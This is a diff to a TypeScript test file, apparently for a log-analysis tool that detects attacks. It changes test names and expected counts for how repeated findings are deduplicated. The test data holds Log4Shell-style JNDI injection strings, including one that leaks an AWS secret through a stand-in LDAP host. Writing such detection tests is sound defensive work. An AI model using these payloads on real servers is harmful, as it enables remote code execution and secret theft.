@@ -27,7 +27,7 @@ function sent(batches: readonly (readonly WorkEvent[])[]): { events: readonly Wo
 const line = (number: number, payload: string): string =>
   `203.0.113.${number % 250} - - [12/Dec/2021:04:25:${10 + (number % 40)} +0000] "GET /${number} HTTP/1.1" 200 1 "-" "${payload}"\n`
 
-test('a spray arrives as it was told, and what its findings share is sent once', () => {
+test('a spray arrives as it was told, and what its findings share is sent until it comes again, and no more', () => {
   const payloads = [
     '${jndi:ldap://a.example/x}',
     '%24%7Bjndi:ldap://${env:AWS_SECRET_KEY}.example%7D',
@@ -40,7 +40,7 @@ test('a spray arrives as it was told, and what its findings share is sent once',
   const arrived = sent(batches)
   expect(events).toHaveLength(600)
   expect(arrived.events).toEqual(events)
-  expect(arrived.whole).toBe(3)
+  expect(arrived.whole).toBe(6)
 })
 
 test('a batch of a part has the lines of the whole, and is made when it is asked for', () => {
@@ -72,10 +72,11 @@ test('gaps, notes and evidence keep their place among attacks', () => {
 
 test('more different attacks than are remembered arrive as they were told, also those that come again', () => {
   const names = Array.from({ length: 5_000 }, (_, i) => line(i, `\${jndi:ldap://a${i}.example/x}`))
-  const events = told([...names, ...names.slice(0, 500), ...names.slice(-500)].join(''))
+  const events = told([...names.flatMap((name) => [name, name, name]), ...names].join(''))
 
-  expect(events).toHaveLength(6_000)
-  expect(sent([events.slice(0, 4_999), events.slice(4_999)]).events).toEqual(events)
+  const arrived = sent([events.slice(0, 4_999), events.slice(4_999)])
+  expect(arrived.events).toEqual(events)
+  expect(arrived.whole).toBe(5_000 + 5_000 + 5_000)
 })
 
 test('findings that differ in what is shared otherwise are told apart', () => {
